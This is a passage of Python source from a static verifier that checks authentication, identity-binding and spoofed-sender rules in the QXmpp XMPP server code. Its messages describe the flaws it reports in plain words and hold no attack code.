            # the failure arm: the continuation under "the outcome is not success", or - when the outcome is dispatched with visit(overloaded{...}) -
            # every visitor that does not take the success alternative
            visitors = [l for l in prog.lambdas_in(lam) if len(l.params) == 1 and l.parent_id == lam.id]
            dispatch = [l for l in visitors if not re.search(r'\bSuccess\b', l.params[0].get('t') or '')]
            if visitors and len(dispatch) < len(visitors) and dispatch and any((lam.cname(n) or '').endswith('visit') for _, n in lam.calls()):
                exits = {}
                for l in dispatch:
                    ex, _ = cfgx.explore(l, (), transfer, None, max_states=20000)
                    exits.update(ex)
            else:
                exits, _ = cfgx.explore(lam, (), transfer, lambda g, c, st: ev.ev(c, st), max_states=20000)
            bad = None
            for st, wit in exits.items():
                ls = [x for x in st if isinstance(x, tuple)]
                if ls:
                    where = prog.fns.get(ls[0][2], lam)
                    bad = ('installs a new stream listener (%s)' % where.fmt(ls[0][1], inline=False)[:60], wit, ls[0][1], where)
                    break
                if 'E' not in st:
                    bad = ('returns without reporting the error', wit, None)
            if bad:
                run.violation(rid, '%s#%s#failure-path' % (f.outer_name(), v.split('::')[-1]), (bad[3] if len(bad) > 3 else lam).loc(bad[2]) if bad[2] is not None else lam.loc(),
                              'the continuation of %s::authenticate in %s %s on a path where the outcome is not success: the mismatch / failure is not what the caller gets to see'
                              % (v.split('::')[-1], f.display()[:50], bad[0]))
            else:
                run.ok(rid, lam.loc(), 'failure outcome of %s: error stored, no listener installed, on %d path(s)' % (v.split('::')[-1], len(exits)))
    if n_sites < 2:
        raise AnalysisBroken('C05.R8: continuations of the SASL listeners not found')
