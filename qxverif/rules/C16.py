"""C16 — the server routes only for authenticated clients and stamps their true address."""
from .. import cfgx
from ..build import AnalysisBroken
from ..callgraph import connects
from ..effects import field_uses, top_function

UNITS = ['server/QXmppIncomingClient.cpp', 'server/QXmppServer.cpp', 'server/QXmppPasswordChecker.cpp', 'base/Stream.cpp']
IC = 'QXmppIncomingClient'
JID = 'QXmppIncomingClientPrivate::jid'
JIDX = 'this.d.jid'
FROM = 'p0.QDomElement::attribute("from")'
BARE = 'QXmppUtils::jidToBareJid(this.d.jid)'


def run(prog, run):
    run.explanation = ('Identity is assigned only on approved authentication edges (control dependence of every write to the '
                       'connection\'s jid); handleStanza is explored under the abstract state "jid empty" (unauthenticated): binding, '
                       'the connected signal, session replies and routing are unreachable; under "from non-empty and different from the '
                       'full and bare authenticated JID" routing is unreachable; on the empty-from path the routed copy is stamped from '
                       'the authenticated jid before the emit; routing entry points and by-JID tables have a closed set of writers/callers.')
    run.assume('the configured QXmppPasswordChecker is the authority on passwords; plug-in server extensions are outside the analysis')
    hs = prog.fn(IC + '::handleStanza')
    _find_roles(prog, hs)
    r1(prog, run)
    r2(prog, run, hs)
    r3(prog, run, hs)
    r4(prog, run)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run)


def _find_roles(prog, hs):
    """the identity member is the one the public accessor QXmppIncomingClient::jid() returns; the resource member is the other member
    of the private class the bound address is rebuilt from"""
    global JID, JIDX, BARE, RESOURCE
    acc = prog.fn(IC + '::jid')
    fields = {acc.nodes[acc.skip(n['e'])].get('f') for _, n in acc.returns() if 'e' in n}
    fields.discard(None)
    if len(fields) != 1:
        raise AnalysisBroken('C16: the member returned by QXmppIncomingClient::jid() is not a single field: %s' % sorted(fields))
    JID = fields.pop()
    JIDX = 'this.d.' + JID.split('::')[-1]
    BARE = 'QXmppUtils::jidToBareJid(%s)' % JIDX
    RESOURCE = None
    for i, n in hs.all_nodes('assign'):
        if hs.nodes[hs.skip(n['l'])].get('f') == JID:
            for j in hs.walk(n['r']):
                m = hs.nodes[j]
                if m['k'] == 'mem' and (m.get('f') or '').startswith('QXmppIncomingClientPrivate::') and m['f'] != JID and 'QString' in (m.get('t') or '') \
                        and any(hs.nodes[hs.skip(a['l'])].get('f') == m['f'] for _, a in hs.all_nodes('assign')):
                    RESOURCE = m['f']            # written by handleStanza (bind) and part of the bound address


RESOURCE = None


def _is_jid(f, nid):
    n = f.nodes[f.skip(nid)]
    return n['k'] == 'mem' and n.get('f') == JID


def _is_bare(f, nid):
    n = f.nodes[f.skip(nid)]
    return n['k'] == 'call' and f.cname(n) == 'QXmppUtils::jidToBareJid' and bool(n.get('args')) and _is_jid(f, n['args'][0])


def _approved_writes(prog, f, sites):
    """for each site (node id in f): the approving authentication edge it depends on, decided by evaluating f once per verdict of the
    SASL server / of the password checker (whatever the spelling of the dispatch: if-chain, switch, guard clauses), or None"""
    out = {}
    for callee, enum, good in (('QXmppSaslServer::respond', 'QXmppSaslServer::Response', 'Succeeded'),
                               ('QXmppPasswordReply::error', 'QXmppPasswordReply::Error', 'NoError')):
        if not any(True for _ in f.calls(callee)):
            continue
        names = [e['name'] for e in prog.enum(enum)['enumerators']]
        scope = enum.rsplit('::', 1)[0] + '::'
        reach = {}
        for nm in names:
            ev = cfgx.Evaluator(f, {callee: ('enum', scope + nm)})
            reach[nm] = cfgx.sink_reachability(f, lambda g, c, st, ev=ev: ev.ev(c, st), sites)
        for sidx in sites:
            if reach[good][sidx] is not None and all(reach[nm][sidx] is None for nm in names if nm != good):
                out[sidx] = '%s == %s' % (callee.split('::')[-1] + '()', good)
    return out


def r1(prog, run):
    rid = run.rule('C16.R1', 'every assignment of a new identity to the connection (jid not derived from jid itself) is control-dependent '
                             'on respond()==Succeeded or on the password reply being NoError, and is built from saslServer->username() and the domain',
                   floor=3)
    uses = [(f, i, k, h) for f, i, k, h in field_uses(prog, JID) if k in ('write', 'addr') and h != 'constructor initialiser']
    if len(uses) < 3:
        raise AnalysisBroken('C16.R1: expected >=3 writes to %s, found %d' % (JID, len(uses)))
    approvals = {}
    for f in {u[0].id: u[0] for u in uses}.values():
        sites = [f.parents().get(i) for g, i, k, h in uses if g.id == f.id and f.parents().get(i) is not None and f.nodes[f.parents()[i]]['k'] == 'assign']
        approvals[f.id] = _approved_writes(prog, f, sites)
    for f, i, k, h in uses:
        run.instance(rid)
        top = top_function(prog, f)
        par = f.parents().get(i)
        pn = f.nodes[par] if par is not None else None
        if not pn or pn['k'] != 'assign':
            run.violation(rid, 'jid-write#%s#%s' % (top.qname, h.split(' ')[0]), f.loc(i), 'identity modified by %s' % h)
            continue
        rhs = f.fmt(pn['r'])
        if any(_is_jid(f, j) for j in f.walk(pn['r'])):
            if any(_is_bare(f, j) for j in f.walk(pn['r'])):
                run.ok(rid, f.loc(i), 'resource binding keeps the authenticated bare JID: %s' % rhs[:80], nontrivial=False)
            else:
                run.violation(rid, 'jid-write#%s#rebind' % top.qname, f.loc(i), 'jid rebuilt from itself without keeping the bare part: %s' % rhs[:100])
            continue
        approved = approvals[f.id].get(par)
        if not approved:
            run.violation(rid, 'jid-write#%s#unapproved' % top.qname, f.loc(i),
                          'identity assigned without an approving authentication edge: d->jid = %s' % rhs[:100])
        elif 'this.d.domain' not in rhs:
            run.violation(rid, 'jid-write#%s#wrong-source' % top.qname, f.loc(i), 'identity not built from the configured domain: %s' % rhs[:100])
        elif approved.startswith('error()'):
            # asynchronous edge: the answer of the password checker arrives later than the request; the identity must be the user name stored with the request,
            # not whatever the (replaceable) SASL server object holds by then
            bound = _request_bound_names(prog)
            used = [b for b in bound if 'QObject::property("%s")' % b in rhs]
            if 'QXmppSaslServer::username' in rhs or not used:
                run.violation(rid, 'jid-write#%s#identity-not-bound-to-request' % top.qname, f.loc(i),
                              'the password checker answers asynchronously, and the identity is built from %s at the time of the answer: a second <auth/> pipelined behind a valid one '
                              'replaces the SASL server in between, so the approval of one user name assigns another (the identity must come from a value stored with the request)'
                              % ('saslServer->username()' if 'QXmppSaslServer::username' in rhs else rhs[:60]))
            else:
                run.ok(rid, f.loc(i), 'under %s: jid = <user name stored with the request as "%s">@domain' % (approved, used[0]))
        elif 'QXmppSaslServer::username' not in rhs:
            run.violation(rid, 'jid-write#%s#wrong-source' % top.qname, f.loc(i),
                          'identity not built from saslServer->username() and the configured domain: %s' % rhs[:100])
        else:
            run.ok(rid, f.loc(i), 'under %s: jid = username@domain' % approved)


def _request_bound_names(prog):
    """names of the dynamic properties under which checkCredentials stores the requested user name with the reply object"""
    out = []
    cc = prog.fn('QXmppIncomingClientPrivate::checkCredentials', required=False)
    if cc is None:
        return out
    for i, n in cc.calls('QObject::setProperty'):
        if len(n.get('args', [])) >= 2:
            v = cc.fmt(n['args'][1])
            if 'QXmppPasswordRequest::username()' in v or 'QXmppSaslServer::username()' in v:
                nm = cc.strval(n['args'][0])
                if nm:
                    out.append(nm)
    return out


def _unauth_eval(fn):
    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) in ('QString::isEmpty', 'QString::isNull') and n.get('obj') is not None and _is_jid(f, n['obj']):
            return (True,)
        return None
    ev = cfgx.Evaluator(fn, {}, custom=custom)
    return lambda f, c, st: ev.ev(c, st)


def _client_sinks(hs):
    sinks = []
    for i, n in hs.calls():
        cn = hs.cname(n)
        if cn == IC + '::elementReceived':
            sinks.append((i, 'routing (emit elementReceived)'))
        elif cn == IC + '::connected':
            sinks.append((i, 'emit connected (registers the client for delivery)'))
        elif cn.endswith('::sendPacket'):
            a = hs.nodes[hs.skip(n['args'][0])]
            sinks.append((i, 'reply ' + (a.get('name') or hs.fmt(n['args'][0])[:30])))
    for i, n in hs.all_nodes('assign'):
        l = hs.nodes[hs.skip(n['l'])]
        if l.get('f') in (JID, RESOURCE):
            sinks.append((i, 'bind: writes ' + l['name']))
    return sinks


def r2(prog, run, hs):
    rid = run.rule('C16.R2', 'while the connection is unauthenticated (jid empty) nothing is bound, answered or routed: bind, session reply, '
                             'connected and elementReceived are unreachable in handleStanza', floor=5)
    sinks = [s for s in _client_sinks(hs) if not s[1].startswith('bind: writes jid') or True]
    # authentication-arm jid writes are not sinks: keep only those in the ns_client arm (they read d->jid)
    keep = []
    for i, what in sinks:
        if what == 'bind: writes ' + JID.split('::')[-1]:
            n = hs.nodes[i]
            if not any(_is_jid(hs, j) for j in hs.walk(n['r'])):
                continue
        keep.append((i, what))
    sinks = keep
    if len(sinks) < 5:
        raise AnalysisBroken('C16.R2: expected bind/session/connected/elementReceived sinks, found %s' % [w for _, w in sinks])
    res = cfgx.sink_reachability(hs, _unauth_eval(hs), [i for i, _ in sinks])
    for i, what in sinks:
        run.instance(rid)
        if res[i] is not None:
            run.violation(rid, 'handleStanza#unauthenticated#' + what.split(' (')[0].replace(' ', '-'), hs.loc(i),
                          '%s is reachable for a connection that has not authenticated' % what, cfgx.describe_path(hs, res[i]))
        else:
            run.ok(rid, hs.loc(i), '%s unreachable while jid is empty' % what)


def r3(prog, run, hs):
    rid = run.rule('C16.R3', 'a stanza whose from is neither empty nor the authenticated full/bare JID is never routed; an empty from is '
                             'stamped from the authenticated jid before routing', floor=2)   # one foreign-from verdict + at least one stamped routing path (today two: bare for subscription presences, full otherwise)
    emits = [i for i, n in hs.calls(IC + '::elementReceived')]
    if not emits:
        raise AnalysisBroken('C16.R3: emit elementReceived not found')

    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QString::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == FROM:
            return (False,)
        bo = f.binop(nid)
        if bo and bo[0] in ('==', '!='):
            for x, y in ((bo[1], bo[2]), (bo[2], bo[1])):
                if f.fmt(x) == FROM and (_is_jid(f, y) or _is_bare(f, y)):
                    return (bo[0] == '!=',)
        return None
    ev = cfgx.Evaluator(hs, {}, custom=custom)
    res = cfgx.sink_reachability(hs, lambda f, c, st: ev.ev(c, st), emits)
    for i in emits:
        run.instance(rid)
        if res[i] is not None:
            run.violation(rid, 'handleStanza#spoofed-from#routed', hs.loc(i),
                          'a stanza with a foreign from attribute is routed', cfgx.describe_path(hs, res[i]))
        else:
            run.ok(rid, hs.loc(i), 'foreign from: not routed')
    # stamping on the empty-from path
    def custom2(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QString::isEmpty' and n.get('obj') is not None:
            o = f.fmt(n['obj'])
            if o == FROM or (o.endswith('QDomElement::attribute("from")') and 'p0' in o):
                return (True,)
            if _is_jid(f, n['obj']):
                return (False,)
        return None
    ev2 = cfgx.Evaluator(hs, {}, custom=custom2)

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call':
            cn = f.cname(n)
            if cn == 'QDomElement::setAttribute' and f.strval(n['args'][0]) == 'from':
                v = f.fmt(n['args'][1])
                good = all(_is_jid(g, x) or _is_bare(g, x) for g, x in _value_leaves(prog, f, n['args'][1]))
                return st + (('stamp', good, v[:60]),)
            if cn == IC + '::elementReceived':
                return st + (('emit', f.fmt(n['args'][0])[:40]),)
        return None
    exits, _ = cfgx.explore(hs, (), transfer, lambda f, c, st: ev2.ev(c, st))
    run.paths += len(exits)
    n_emit = 0
    for st, path in exits.items():
        ev_i = [k for k, e in enumerate(st) if e[0] == 'emit']
        if not ev_i:
            continue
        n_emit += 1
        run.instance(rid)
        stamps = [e for e in st[:ev_i[0]] if e[0] == 'stamp']
        if not stamps:
            run.violation(rid, 'handleStanza#empty-from#unstamped', hs.loc(emits[0]),
                          'a stanza without from is routed without being stamped with the authenticated address',
                          cfgx.describe_path(hs, path))
        elif not all(s[1] for s in stamps):
            run.violation(rid, 'handleStanza#empty-from#stamped-from-input', hs.loc(emits[0]),
                          'from is stamped with %s instead of the authenticated jid' % [s[2] for s in stamps if not s[1]],
                          cfgx.describe_path(hs, path))
        else:
            run.ok(rid, hs.loc(emits[0]), 'empty from stamped with %s before routing' % stamps[-1][2])
    if n_emit == 0:
        raise AnalysisBroken('C16.R3: no routing path found for an authenticated client with empty from')


def _value_leaves(prog, f, nid, depth=0):
    """[(fn, node)] the values an expression may take: through ?:, single-assignment locals and the returns of same-file helpers"""
    n = f.nodes[f.skip(nid)]
    if n['k'] == 'cond' and depth < 6:
        return _value_leaves(prog, f, n['a'], depth + 1) + _value_leaves(prog, f, n['b'], depth + 1)
    if n['k'] == 'var' and n.get('vk') == 'local' and depth < 6:
        d = f.single_def(n['decl'])
        if d is not None:
            return _value_leaves(prog, f, d, depth + 1)
    if n['k'] == 'call' and not n.get('op') and depth < 6 and not _is_bare(f, nid):
        gs = [g for g in prog.callee_fns(f, n) if g.entry is not None and g.file == f.file]
        if len(gs) == 1:
            out = []
            for i, r in gs[0].returns():
                if 'e' in r:
                    out += _value_leaves(prog, gs[0], r['e'], depth + 1)
            if out:
                return out
    return [(f, nid)]


def r4(prog, run):
    rid = run.rule('C16.R4', 'client elements reach the router only through the elementReceived connection; the by-JID routing tables are '
                             'filled only when a client signals connected', floor=3)
    srv_handle = 'QXmppServer::handleElement'
    if not prog.fn(srv_handle, required=False):
        raise AnalysisBroken('C16.R4: QXmppServer::handleElement not found')
    for c in connects(prog):
        if c['kind'] == 'slot' and c['target']['qname'] == srv_handle:
            run.instance(rid)
            sig = c['signal']['qname']
            if sig in ('QXmppIncomingClient::elementReceived', 'QXmppIncomingServer::elementReceived'):
                run.ok(rid, c['fn'].loc(c['nid']), 'router connected to %s' % sig)
            else:
                run.violation(rid, 'router-entry#' + sig, c['fn'].loc(c['nid']), 'router fed by %s' % sig)
    for fld in ('QXmppServerPrivate::incomingClientsByJid', 'QXmppServerPrivate::incomingClientsByBareJid'):
        uses = [(f, i, k, h) for f, i, k, h in field_uses(prog, fld) if k in ('write', 'addr') and h != 'constructor initialiser']
        if not uses:
            raise AnalysisBroken('C16.R4: no writer of %s' % fld)
        for f, i, k, h in uses:
            run.instance(rid)
            top = top_function(prog, f)
            if top.qname in ('QXmppServer::_q_clientConnected', 'QXmppServer::_q_clientDisconnected', 'QXmppServerPrivate::stopExtensions',
                             'QXmppServer::close') or (h.startswith(('remove', 'clear', 'erase', 'take')) ):
                run.ok(rid, f.loc(i), '%s %s in %s' % (fld.split('::')[-1], h, top.qname))
            else:
                run.violation(rid, 'routing-table-writer#%s#%s' % (top.qname, h.split(' ')[0]), f.loc(i),
                              '%s adds to the routing table %s' % (top.display(), fld))
    slot_ok = False
    for c in connects(prog):
        if c['kind'] == 'slot' and c['target']['qname'] == 'QXmppServer::_q_clientConnected':
            slot_ok = c['signal']['qname'] == 'QXmppIncomingClient::connected'
    run.instance(rid)
    if slot_ok:
        run.ok(rid, 'src/server/QXmppServer.cpp', '_q_clientConnected is the slot of QXmppIncomingClient::connected')
    else:
        run.violation(rid, 'routing-table#registration-slot', 'src/server/QXmppServer.cpp', '_q_clientConnected no longer wired to QXmppIncomingClient::connected')


def r5(prog, run):
    rid = run.rule('C16.R5', 'success is announced only on the approving edge of the password checker; every other edge sends a failure and disconnects', floor=4)
    pr = prog.fn(IC + '::onPasswordReply')
    dr = prog.fn(IC + '::onDigestReply')
    err = prog.enum('QXmppPasswordReply::Error')
    for e in err['enumerators']:
        name = 'QXmppPasswordReply::' + e['name']
        ev = cfgx.Evaluator(pr, {'QXmppPasswordReply::error': ('enum', name)})

        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'call':
                cn = f.cname(n)
                if cn.endswith('::sendData'):
                    return st + (('send', f.fmt(n['args'][0])),)
                if cn in (IC + '::handleStart', IC + '::onSasl2Authenticated'):
                    return st + (('proceed', cn.split('::')[-1]),)
                if cn.endswith('::disconnectFromHost'):
                    return st + (('disconnect',),)
            if n['k'] == 'assign' and f.nodes[f.skip(n['l'])].get('f') == JID:
                return st + (('identity',),)
            return None

        def evc(f, c, st, ev=ev):
            n = f.nodes[f.skip(c)]
            if n['k'] == 'un' and n['op'] == '!' and f.nodes[f.skip(n['e'])].get('name') == 'reply':
                return False
            # the answer belongs to the exchange in progress (the stale-answer path is decided separately below)
            if 'QXmppIncomingClientPrivate::saslServer' in ' '.join(str(f.nodes[j].get('f') or '') for j in f.walk(c)) and not any(f.nodes[j]['k'] == 'call' and f.cname(f.nodes[j]).startswith('QXmppSaslServer::') for j in f.walk(c)):
                top = f.nodes[f.skip(c)]
                return not (top['k'] == 'un' and top.get('op') == '!')
            return ev.ev(c, st)
        exits, _ = cfgx.explore(pr, (), transfer, evc)
        run.paths += len(exits)
        for st, path in exits.items():
            run.instance(rid)
            succ = any(e[0] == 'send' and 'Success' in e[1] for e in st) or any(e[0] == 'proceed' for e in st) or any(e[0] == 'identity' for e in st)
            fail = any(e[0] == 'send' and 'Failure' in e[1] for e in st) and any(e[0] == 'disconnect' for e in st)
            if e['name'] == 'NoError':
                if succ and not fail:
                    run.ok(rid, pr.loc(), 'NoError: identity set, success announced')
                else:
                    run.violation(rid, 'onPasswordReply#NoError', pr.loc(), 'approved password does not lead to success', cfgx.describe_path(pr, path))
            else:
                if succ or not fail:
                    run.violation(rid, 'onPasswordReply#' + e['name'], pr.loc(),
                                  'checker said %s but the connection is %s' % (e['name'], 'authenticated' if succ else 'not failed/disconnected'),
                                  cfgx.describe_path(pr, path))
                else:
                    run.ok(rid, pr.loc(), '%s: failure sent, disconnected, no identity' % e['name'])
    # an answer that arrives when no exchange is in progress any more (another pipelined request was answered first and the stream restarted) is ignored:
    # nothing is assigned, announced or sent, and the (reset) SASL server object is not touched
    for h in (pr, dr):
        run.instance(rid)

        def stale(f, c, st):
            fields = [f.nodes[j].get('f') or '' for j in f.walk(c)]
            if any(x.endswith('::saslServer') for x in fields) and not any(f.nodes[j]['k'] == 'call' and f.cname(f.nodes[j]).startswith('QXmppSaslServer::') for j in f.walk(c)):
                top = f.nodes[f.skip(c)]
                return top['k'] == 'un' and top.get('op') == '!'
            n = f.nodes[f.skip(c)]
            if n['k'] == 'un' and n['op'] == '!' and f.nodes[f.skip(n['e'])].get('name') == 'reply':
                return False
            return None
        sinks = [i for i, n in h.calls() if h.cname(n).startswith('QXmppSaslServer::') or h.cname(n).endswith(('::sendData', '::handleStart', '::onSasl2Authenticated'))]
        sinks += [i for i, n in h.all_nodes('assign') if h.nodes[h.skip(n['l'])].get('f') == JID]
        res = cfgx.sink_reachability(h, stale, sinks)
        hit = [i for i in sinks if res[i] is not None]
        if hit:
            n0 = h.nodes[hit[0]]
            run.violation(rid, '%s#stale-answer' % h.qname.split('::')[-1], h.loc(hit[0]),
                          '%s reaches %s although no SASL exchange is in progress any more (the answer of a pipelined request arriving after the stream has been restarted): '
                          'the reset SASL server is dereferenced / the connection state is changed by an answer that no longer belongs to anything'
                          % (h.qname.split('::')[-1], h.fmt(hit[0], inline=False)[:60]), cfgx.describe_path(h, res[hit[0]]))
        else:
            run.ok(rid, h.loc(), '%s ignores an answer that arrives after its exchange has ended' % h.qname.split('::')[-1])
    # an exchange that is given up (the stored SASL 2 request is dropped without success) is over on the server as well: the SASL server object is reset or
    # the connection closed on that path, so that an answer of the password checker that is still on its way cannot complete it
    hsf = prog.fn(IC + '::handleStanza')

    def ev_end(f, nid):
        n = f.nodes[nid]
        if n['k'] == 'assign' and (f.nodes[f.skip(n['l'])].get('f') or '').endswith('::saslServer'):
            return 'exchange-ended'              # a new exchange replaces (destroys) the SASL server of the old one
        if n['k'] == 'call':
            cn = f.cname(n)
            o = f.nodes[f.skip(n['obj'])] if n.get('obj') is not None else {}
            if cn.endswith('::reset') and (o.get('f') or '').endswith('::sasl2AuthRequest'):
                return 'request-dropped'
            if cn.endswith('::reset') and (o.get('f') or '').endswith('::saslServer'):
                return 'exchange-ended'
            if cn.endswith('::disconnectFromHost'):
                return 'exchange-ended'
            if cn.endswith('::onSasl2Authenticated'):
                return 'completed'
            if n.get('op') == '=' and n.get('opargs') and (f.nodes[f.skip(n['opargs'][0])].get('f') or '').endswith('::saslServer'):
                return 'exchange-ended'          # a new exchange replaces (destroys) the SASL server of the old one
        return None
    for h in (hsf, pr, dr):
        run.instance(rid)
        seqs = cfgx.effect_sequences(prog, h, ev_end)
        bad = [q for q in seqs if 'request-dropped' in q and 'exchange-ended' not in q and 'completed' not in q and '?' not in q]
        if bad:
            run.violation(rid, '%s#request-dropped-exchange-kept' % h.qname.split('::')[-1], h.loc(),
                          '%s drops the stored SASL 2 request on a path that neither resets the SASL server nor closes the connection (effects %s): the password checker\'s answer '
                          'that is still on its way then authenticates a connection that was told <failure/>' % (h.qname.split('::')[-1], list(bad[0])))
        else:
            run.ok(rid, h.loc(), '%s: a dropped SASL 2 request always ends the exchange (%d effect sequences)' % (h.qname.split('::')[-1], len(seqs)), nontrivial=any('request-dropped' in q for q in seqs))
    # digest: challenge only when respond() == Challenge; never success/identity here
    run.instance(rid)
    bad = [i for i, n in dr.all_nodes('assign') if dr.nodes[dr.skip(n['l'])].get('f') == JID]
    sends = [(i, dr.fmt(n['args'][0])) for i, n in dr.calls() if dr.cname(n).endswith('::sendData')]
    chal = [i for i, t in sends if 'Challenge' in t]
    ok = not bad and chal
    for i in chal:
        good = False
        for c, pol in dr.atomic_assertions_at(i):
            bo = dr.binop(c)
            if isinstance(pol, bool) and bo and 'QXmppSaslServer::respond' in dr.fmt(c) and 'QXmppSaslServer::Challenge' in dr.fmt(c) \
                    and (pol == (bo[0] == '==')):
                good = True
        ok = ok and good
    if ok and not any('Success' in t for _, t in sends):
        run.ok(rid, dr.loc(), 'digest reply: challenge only when respond()==Challenge; no identity, no success here')
    else:
        run.violation(rid, 'onDigestReply#shape', dr.loc(), 'digest reply handler announces success/identity or sends the challenge unguarded')
    # the base password checker: a refused lookup yields an error and no usable credential (onDigestReply relies on the digest being empty for
    # AuthorizationError; it only tests TemporaryError itself)
    for qn, cred in (('QXmppPasswordChecker::getDigest', 'QXmppPasswordReply::setDigest'), ('QXmppPasswordChecker::checkPassword', None)):
        pc = prog.fn(qn)
        for e in err['enumerators']:
            if e['name'] == 'NoError':
                continue
            run.instance(rid)
            name = 'QXmppPasswordReply::' + e['name']
            ev2 = cfgx.Evaluator(pc, {'QXmppPasswordChecker::getPassword': ('enum', name)})

            def tr(f, nid, st):
                n = f.nodes[nid]
                if n['k'] == 'call':
                    cn = f.cname(n)
                    if cred and cn == cred:
                        return st + ('credential',)
                    if cn == 'QXmppPasswordReply::setError':
                        v = ev2.ev(n['args'][0], st)
                        return st + (('error', v[1].split('::')[-1] if isinstance(v, tuple) else '?'),)
                return None
            exits2, _ = cfgx.explore(pc, (), tr, lambda f, c, st: ev2.ev(c, st))
            problems = []
            for st2 in exits2:
                if 'credential' in st2:
                    problems.append('hands out a digest although the lookup failed with %s (the digest of the empty password: DIGEST-MD5 then accepts an unknown user)' % e['name'])
                if ('error', e['name']) not in st2:
                    problems.append('does not report %s to the server' % e['name'])
            if problems:
                run.violation(rid, '%s#%s' % (qn, e['name']), pc.loc(), '%s %s' % (qn.split('::')[-1], problems[0]))
            else:
                run.ok(rid, pc.loc(), '%s: %s is reported, no credential handed out' % (qn.split('::')[-1], e['name']))


# --------------------------------------------------------------------------- R6: a refused connection is really over
def r6(prog, run):
    rid = run.rule('C16.R6', 'the server ends a refused exchange with XmppSocket::disconnectFromHost() and keeps its authentication state (R5 relies on that call ending the '
                             'connection): whenever a socket is attached, that function closes it on every path - a connection that stays readable after a <failure/> lets the '
                             'client continue the old exchange with another user name', floor=1)
    f = prog.fn('QXmpp::Private::XmppSocket::disconnectFromHost')
    sock = [fl for fl in prog.record('QXmpp::Private::XmppSocket')['fields'] if 'QSslSocket' in (fl.get('t') or '') or 'QAbstractSocket' in (fl.get('t') or '') or 'QTcpSocket' in (fl.get('t') or '')]
    if len(sock) != 1:
        raise AnalysisBroken('C16.R6: the socket member of XmppSocket was not identified')
    sq = sock[0].get('qname') or 'QXmpp::Private::XmppSocket::' + sock[0]['name']

    def custom(g, nid, st):
        n = g.nodes[nid]
        if n['k'] == 'mem' and n.get('f') == sq and (g.parents().get(nid) is None or g.nodes[g.parents()[nid]]['k'] in ('icast', 'cast', 'un')
                                                  or any(t.get('cond') is not None and g.skip(t['cond']) == nid for t in (b.get('term') or {} for b in g.blocks.values()))):
            return (True,)
        return None
    ev = cfgx.Evaluator(f, {}, custom=custom)

    def transfer(g, nid, st):
        n = g.nodes[nid]
        if n['k'] == 'call' and n.get('obj') is not None and g.nodes[g.resolve(n['obj'])].get('f') == sq and (g.sym(n) or {}).get('name') in ('disconnectFromHost', 'abort', 'close'):
            return ('closed',)          # on the member, or on a local alias of it
        return None
    exits, _ = cfgx.explore(f, (), transfer, lambda g, c, st: ev.ev(c, st), max_states=5000)
    run.instance(rid)
    bad = [(st, w) for st, w in exits.items() if st != ('closed',)]
    if bad and _failures_end_exchange(prog):
        run.ok(rid, f.loc(), 'the socket may stay open for a closing handshake, but every refusing edge of the server discards the SASL exchange before it disconnects')
    elif bad:
        run.violation(rid, 'XmppSocket::disconnectFromHost#socket-left-open', f.loc(),
                      'XmppSocket::disconnectFromHost() returns on some path without closing the attached socket: the server treats the call as the end of a refused connection and '
                      'leaves the SASL exchange in place, so the peer can go on with it', cfgx.describe_path(f, bad[0][1]))
    else:
        run.ok(rid, f.loc(), 'the attached socket is closed on every path (%d)' % len(exits))


def _failures_end_exchange(prog):
    """every server path that disconnects after the SASL exchange was created discards that exchange first (reset / assignment of the mechanism object)"""
    rec = prog.record('QXmppIncomingClientPrivate')
    sasl = [fl.get('qname') or 'QXmppIncomingClientPrivate::' + fl['name'] for fl in rec['fields'] if 'QXmppSaslServer' in (fl.get('t') or '')]
    if not sasl:
        return False

    def event_of(g, nid):
        n = g.nodes[nid]
        if n['k'] == 'call':
            cn = g.cname(n) or ''
            if cn.endswith('::disconnectFromHost') and ('XmppSocket' in cn or IC in cn):
                return 'disc'
            if n.get('obj') is not None and g.nodes[g.skip(n['obj'])].get('f') in sasl and (g.sym(n) or {}).get('name') in ('reset',):
                return 'end'
            if n.get('op') == '=' and n.get('opargs') and g.nodes[g.skip(n['opargs'][0])].get('f') in sasl:
                return 'end' if g.nodes[g.skip(n['opargs'][1])]['k'] == 'null' else 'begin'
        return None
    for g in prog.fns.values():
        if g.entry is None or not g.file.endswith('QXmppIncomingClient.cpp') or g.is_lambda:
            continue
        if not any((g.cname(n) or '').endswith('::disconnectFromHost') for h in prog.closure(g) for _, n in h.calls()):
            continue
        if not any(m['k'] == 'mem' and m.get('f') in sasl for h in prog.closure(g) for m in h.nodes):
            continue            # not an authentication step
        for q in cfgx.effect_sequences(prog, g, event_of):
            if 'disc' in q and 'end' not in q[:q.index('disc')]:
                return False
    return True


# --------------------------------------------------------------------------- R7: the configured checker is the one that is asked
def r7(prog, run):
    rid = run.rule('C16.R7', 'every call the server makes on its password checker is dispatched virtually: the decision is the configured checker\'s (a reimplemented checkPassword() '
                             'that refuses suspended or banned accounts), not the base class\'s', floor=3)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or not f.file.endswith('QXmppIncomingClient.cpp'):
            continue
        for i, c in f.calls():
            s_ = f.sym(c) or {}
            if s_.get('record') != 'QXmppPasswordChecker' or c.get('obj') is None:
                continue
            n += 1
            run.instance(rid)
            if s_.get('virtual'):
                run.ok(rid, f.loc(i), '%s() is virtual' % s_['name'], nontrivial=False)
            else:
                run.violation(rid, 'QXmppPasswordChecker::%s#not-virtual' % s_['name'], f.loc(i),
                              'the server calls QXmppPasswordChecker::%s(), which is not virtual: a checker that reimplements it is bypassed and the base implementation decides who '
                              'is authenticated' % s_['name'])
    if n < 3:
        raise AnalysisBroken('C16.R7: calls on the password checker not found')
