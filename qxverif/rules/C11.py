"""C11 — carbon copies are trusted only when they come from the user's own bare JID."""
from .. import cfgx
from ..build import AnalysisBroken
from ..effects import classify_use

UNITS = ['client/QXmppCarbonManager.cpp', 'client/QXmppCarbonManagerV2.cpp', 'client/QXmppClient.cpp', 'server/QXmppIncomingClient.cpp', 'client/QXmppConfiguration.cpp']

MANAGERS = {
    'QXmppCarbonManager::handleStanza': ['QXmppCarbonManager::messageSent', 'QXmppCarbonManager::messageReceived'],
    'QXmppCarbonManagerV2::handleStanza': ['QXmppClientExtension::injectMessage'],
